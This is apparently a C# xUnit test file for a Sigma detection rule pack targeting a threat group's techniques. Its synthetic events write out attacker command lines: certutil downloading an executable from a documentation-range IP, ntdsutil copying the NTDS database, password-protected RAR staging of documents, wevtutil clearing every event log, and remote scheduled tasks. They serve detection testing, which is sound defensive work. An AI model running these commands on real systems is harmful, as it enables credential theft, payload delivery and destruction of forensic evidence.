using Semitori.Sigma.Correlation;
using Semitori.Sigma.Engine;
using Semitori.Sigma.Events;
using Xunit.Abstractions;

namespace Semitori.Sigma.Tests;

/// <summary>
/// The built-in Cicada pack: every rule loads, cites a source and an ATT&amp;CK id, fires on a
/// benign synthetic event that reproduces its technique as the dossier documents it for the
/// group, stays silent on the generic form of the technique (left to SigmaHQ), and stays silent
/// on every EVTX sample of ../shared/evtx-samples, which contain no attack.
/// </summary>
public class CicadaPackTests(ITestOutputHelper output)
{
    private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";
    private static readonly DateTime T0 = new(2026, 11, 25, 10, 0, 0, DateTimeKind.Utc);

    private static readonly SigmaRuleSet Pack = new SigmaRuleSetBuilder().AddBuiltInPack().Build();

    public static TheoryData<string, string> Techniques => new()
    {
        { "Cicada WMIExec Command With Output Redirected To ADMIN Share", "wmiexec" },
        { "Cicada AdFind Active Directory Reconnaissance", "adfind" },
        { "Cicada AdFind Active Directory Reconnaissance", "adfind-renamed" },
        { "Cicada Csvde Active Directory Export", "csvde" },
        { "Cicada Ntdsutil IFM Or Snapshot Of NTDS", "ntdsutil" },
        { "Cicada Certutil Decode, Download Or Root Certificate Install", "certutil-decode" },
        { "Cicada Certutil Decode, Download Or Root Certificate Install", "certutil-urlcache" },
        { "Cicada Certutil Decode, Download Or Root Certificate Install", "certutil-addstore" },
        { "Cicada Password-Protected RAR Archive Creation", "rar-password" },
        { "Cicada Archive Staged Under Recycle Bin", "rar-recycle-bin" },
        { "Cicada NBTScan Network Discovery", "nbtscan" },
        { "Cicada Remote Scheduled Task Creation", "schtasks-remote" },
        { "Cicada Wevtutil Clear Log", "wevtutil" },
        { "Cicada Wevtutil Clear Log", "wevtutil-all-logs" },
        { "Cicada Service Launching A Side-Loading Host Outside Its Install Folder", "service-7045" },
        { "Cicada Service Launching A Side-Loading Host Outside Its Install Folder", "service-7045-staging" },
        { "Cicada Zerologon Netlogon Vulnerable Secure Channel", "netlogon-5829" },
        { "Cicada Zerologon Netlogon Vulnerable Secure Channel", "netlogon-5805" },
        { "Cicada Zerologon Machine Account Changed By Anonymous Logon", "4742-anonymous" },
        { "Cicada PowerShell Event Log Cleared", "104-powershell" },
    };

    [Fact]
    public void Every_rule_loads_and_cites_a_source_and_an_attack_technique()
    {
        Assert.Empty(Pack.Rejected);
        Assert.True(Pack.Rules.Count >= 17, $"{Pack.Rules.Count} rules");
        Assert.Equal(2, Pack.Correlations.Count);
        foreach (var rule in Pack.Rules.Select(r => r.Rule).Concat(Pack.Correlations.Select(c => c.Rule)))
        {
            Assert.Equal("Semitori", rule.Author);
            Assert.Contains(rule.References, r => r.StartsWith("https://", StringComparison.Ordinal));
            Assert.NotEmpty(rule.AttackIds);
        }
    }

    [Theory]
    [MemberData(nameof(Techniques))]
    public void Each_technique_fires_its_rule(string title, string technique)
    {
        List<string> fired = new SigmaMatcher(Pack).Match(Synthetic(technique)).Select(r => r.Rule.Title).ToList();
        Assert.Contains(title, fired);
    }

    [Fact]
    public void Ordinary_processes_do_not_fire()
    {
        var matcher = new SigmaMatcher(Pack);
        Assert.Empty(matcher.Match(Process(@"C:\Windows\System32\cmd.exe", "cmd.exe /c dir", @"C:\Windows\explorer.exe")));
        Assert.Empty(matcher.Match(Process(@"C:\Windows\System32\certutil.exe", "certutil -hashfile a.exe SHA256")));
        Assert.Empty(matcher.Match(Process(@"C:\Program Files\WinRAR\rar.exe", @"rar.exe x backup.rar C:\restore")));
        Assert.Empty(matcher.Match(Event("Security", 4742, ("SubjectUserName", "admin"))));
    }

    /// <summary>
    /// The generic forms of techniques the pack narrows to the group's documented variant:
    /// clearing one ordinary log, a service installed from a temporary folder, Defender's own
    /// service. SigmaHQ's generic rules (via --sigma) cover the first two.
    /// </summary>
    [Fact]
    public void Generic_forms_of_narrowed_techniques_do_not_generate()
    {
        var matcher = new SigmaMatcher(Pack);
        Assert.DoesNotContain(matcher.Match(Process(@"C:\Windows\System32\wevtutil.exe", "wevtutil cl Application")), r => r.Generate);
        Assert.DoesNotContain(matcher.Match(Cleared("Microsoft-Windows-Sysmon/Operational")), r => r.Generate);
        Assert.DoesNotContain(matcher.Match(Cleared("Security", 1102)), r => r.Generate);
        Assert.Empty(matcher.Match(Service(@"""C:\Users\bob\AppData\Local\Temp\setup-1\agent\agent.exe""")));
        Assert.Empty(matcher.Match(Service(@"""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2009.7-0\MsMpEng.exe""")));
        Assert.Empty(matcher.Match(Service(@"""C:\Program Files\Notepad++\updater\GUP.exe""")));
    }

    [Fact]
    public void Security_log_cleared_with_another_log_fires_the_correlation_and_either_alone_does_not()
    {
        SigmaDetection detection = Assert.Single(Correlate(
            (Cleared("Security", 1102, computer: "DC01"), T0),
            (Cleared("Microsoft-Windows-PowerShell/Operational", computer: "DC01"), T0.AddMinutes(2)),
            (Cleared("Application", computer: "DC01"), T0.AddMinutes(3))));
        Assert.Equal("Cicada Security Log Cleared Together With Other Logs", detection.Rule.Title);
        Assert.Equal("DC01", detection.GroupKey);

        Assert.Empty(Correlate((Cleared("Security", 1102, computer: "DC01"), T0), (Cleared("Application", computer: "DC01"), T0.AddMinutes(30))));
        Assert.Empty(Correlate((Cleared("Security", 1102, computer: "DC01"), T0), (Cleared("Application", computer: "WS7"), T0.AddMinutes(1))));
        Assert.Empty(Correlate((Cleared("Application", computer: "DC01"), T0), (Cleared("System", computer: "DC01"), T0.AddMinutes(1))));
    }

    [Fact]
    public void A_burst_of_net_use_fires_the_correlation_once_and_a_few_do_not()
    {
        var correlator = new SigmaCorrelator(Pack);
        var matcher = new SigmaMatcher(Pack);
        for (int i = 0; i < 8; i++)
        {
            DictionaryEvent evt = Process(@"C:\Windows\System32\net.exe", $@"net use \\10.0.0.{i}\c$ /user:corp\svc x", time: T0.AddSeconds(i * 3));
            foreach (SigmaCompiledRule rule in matcher.Match(evt))
            {
                Assert.False(rule.Generate); // the single connection only feeds the correlation
                correlator.Observe(rule, evt);
            }
        }

        for (int i = 0; i < 3; i++)
        {
            DictionaryEvent evt = Process(@"C:\Windows\System32\net.exe", $@"net use \\10.0.1.{i}\c$", computer: "WS2", time: T0.AddSeconds(i));
            matcher.Match(evt).ForEach(r => correlator.Observe(r, evt));
        }

        SigmaDetection detection = Assert.Single(correlator.Complete());
        Assert.Equal("Cicada Net Use Burst", detection.Rule.Title);
        Assert.Equal(5, detection.Events.Count);
        Assert.Equal("WS1", detection.GroupKey);
    }

    /// <summary>
    /// Every sample of ../shared/evtx-samples is a log of ordinary machines (developer desktops,
    /// servers, parser test files), so the pack must raise nothing on them: no generating rule
    /// and no correlation. SigmaHQ's regression_data files are not part of this set: each is a
    /// recording of an attack technique made to fire a SigmaHQ rule, so they are attack samples.
    /// Correlation inputs may match (system.evtx has two genuine clears of the Sysmon log); they
    /// are counted and printed, but raise nothing alone.
    /// </summary>
    [SharedDataFact]
    public void Pack_is_silent_on_every_non_attack_sample()
    {
        var matcher = new SigmaMatcher(Pack);
        var correlator = new SigmaCorrelator(Pack);
        int events = 0;
        int files = 0;
        var fired = new List<string>();
        var inputs = new List<string>();
        foreach (string path in Directory.EnumerateFiles(SharedData.Samples, "*.evtx").Order(StringComparer.Ordinal))
        {
            files++;
            foreach (EvtxEvent evt in EvtxEvents.Read(path))
            {
                events++;
                foreach (SigmaCompiledRule rule in matcher.Match(evt))
                {
                    correlator.Observe(rule, evt);
                    string line = $"{Path.GetFileName(path)}: {rule.Rule.Title}: record {evt.Fields["EventRecordID"].ToText()}";
                    (rule.Generate ? fired : inputs).Add(line);
                }
            }
        }

        fired.AddRange(correlator.Complete().Select(d => $"correlation {d.Rule.Title} on {d.GroupKey}"));
        output.WriteLine($"{files} files, {events} events, {fired.Count} detections, {inputs.Count} correlation-input matches");
        fired.ForEach(output.WriteLine);
        inputs.ForEach(i => output.WriteLine("input only: " + i));
        Assert.True(files >= 23, $"{files} sample files");
        Assert.True(events > 15000, $"{events} events");
        Assert.Empty(fired);
    }

    private List<SigmaDetection> Correlate(params (DictionaryEvent Event, DateTime Time)[] events)
    {
        var matcher = new SigmaMatcher(Pack);
        var correlator = new SigmaCorrelator(Pack);
        foreach ((DictionaryEvent evt, DateTime time) in events)
        {
            var timed = new DictionaryEvent(evt.Fields, time);
            foreach (SigmaCompiledRule rule in matcher.Match(timed))
            {
                Assert.False(rule.Generate && rule.Rule.Title.Contains("Correlation Input", StringComparison.Ordinal));
                correlator.Observe(rule, timed);
            }
        }

        List<SigmaDetection> detections = correlator.Complete();
        detections.ForEach(d => output.WriteLine($"{d.Rule.Title} on {d.GroupKey}: {d.Events.Count} events"));
        return detections;
    }

    /// <summary>A log-cleared event: 1102 in Security, or 104 in System naming the cleared log below UserData.</summary>
    private static DictionaryEvent Cleared(string log, long eventId = 104, string computer = "DC01")
        => new(new Dictionary<string, object?>
        {
            ["Channel"] = eventId == 1102 ? "Security" : "System",
            ["EventID"] = eventId,
            ["Computer"] = computer,
            ["Provider_Name"] = "Microsoft-Windows-Eventlog",
            ["SubjectUserName"] = "admin",
            ["LogFileCleared.SubjectUserName"] = "admin",
            ["LogFileCleared.Channel"] = eventId == 1102 ? null : log,
        }, T0);

    private static DictionaryEvent Service(string imagePath)
        => Event("System", 7045, ("Provider_Name", "Service Control Manager"), ("ServiceName", "svc"), ("ImagePath", imagePath), ("AccountName", "LocalSystem"));

    private static DictionaryEvent Synthetic(string technique) => technique switch
    {
        "wmiexec" => Process(@"C:\Windows\System32\cmd.exe", @"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1606123456.789 2>&1", @"C:\Windows\System32\wbem\WmiPrvSE.exe"),
        "adfind" => Process(@"C:\Users\Public\AdFind.exe", "AdFind.exe -f \"(objectcategory=computer)\" > c.txt"),
        "adfind-renamed" => Process(@"C:\Users\Public\af.exe", "af.exe -gcb -sc trustdmp"),
        "csvde" => Process(@"C:\Windows\System32\csvde.exe", @"csvde -f C:\windows\web\users.log"),
        "ntdsutil" => Process(@"C:\Windows\System32\ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\ifm\" q q"),
        "certutil-decode" => Process(@"C:\Windows\System32\certutil.exe", @"certutil -decode C:\Users\Public\a.txt C:\Users\Public\a.exe"),
        "certutil-urlcache" => Process(@"C:\Windows\System32\certutil.exe", @"certutil.exe -urlcache -f http://198.51.100.7/files/t.exe C:\ProgramData\t.exe"),
        "certutil-addstore" => Process(@"C:\Windows\System32\certutil.exe", @"certutil -addstore root C:\ProgramData\ca.cer"),
        "rar-password" => Process(@"C:\ProgramData\rar.exe", @"rar.exe a -hpP@ssw0rd -m5 -v200m C:\ProgramData\out.rar C:\Users\bob\Documents"),
        "rar-recycle-bin" => Process(@"C:\$Recycle.Bin\r.exe", @"r.exe a -hpx C:\$Recycle.Bin\data.rar D:\projects"),
        "nbtscan" => Process(@"C:\Users\Public\nbt.exe", "nbt.exe 10.0.0.0/24"),
        "schtasks-remote" => Process(@"C:\Windows\System32\schtasks.exe", "schtasks /create /s 10.0.0.5 /sc minute /mo 15 /tn \"Update\" /tr \"C:\\ProgramData\\GUP.exe\" /rl HIGHEST"),
        "wevtutil" => Process(@"C:\Windows\System32\wevtutil.exe", "wevtutil cl Microsoft-Windows-PowerShell/Operational"),
        "wevtutil-all-logs" => Process(@"C:\Windows\System32\cmd.exe", "cmd.exe /c for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\""),
        "service-7045" => Service(@"C:\ProgramData\Microsoft\GUP.exe"),
        "service-7045-staging" => Service(@"""C:\Users\bob\AppData\Local\Temp\winsyslog\msseces.exe"""),
        "netlogon-5829" => Event("System", 5829, ("Provider_Name", "NETLOGON")),
        "netlogon-5805" => Event("System", 5805, ("Provider_Name", "NETLOGON")),
        "4742-anonymous" => Event("Security", 4742, ("SubjectUserName", "ANONYMOUS LOGON"), ("TargetUserName", "DC01$")),
        "104-powershell" => Cleared("Microsoft-Windows-PowerShell/Operational"),
        _ => throw new ArgumentOutOfRangeException(nameof(technique), technique, null),
    };

    private static DictionaryEvent Process(string image, string commandLine, string parent = @"C:\Windows\System32\cmd.exe", string computer = "WS1", DateTime? time = null)
        => new(new Dictionary<string, object?>
        {
            ["Channel"] = Sysmon,
            ["EventID"] = 1L,
            ["Computer"] = computer,
            ["Image"] = image,
            ["CommandLine"] = commandLine,
            ["ParentImage"] = parent,
            ["User"] = @"CORP\bob",
            ["CurrentDirectory"] = @"C:\Windows\system32\",
        }, time ?? T0);

    private static DictionaryEvent Event(string channel, long eventId, params (string Key, object? Value)[] fields)
    {
        var map = new Dictionary<string, object?> { ["Channel"] = channel, ["EventID"] = eventId, ["Computer"] = "DC01" };
        foreach ((string key, object? value) in fields)
        {
            map[key] = value;
        }

        return new DictionaryEvent(map, T0);
    }
}
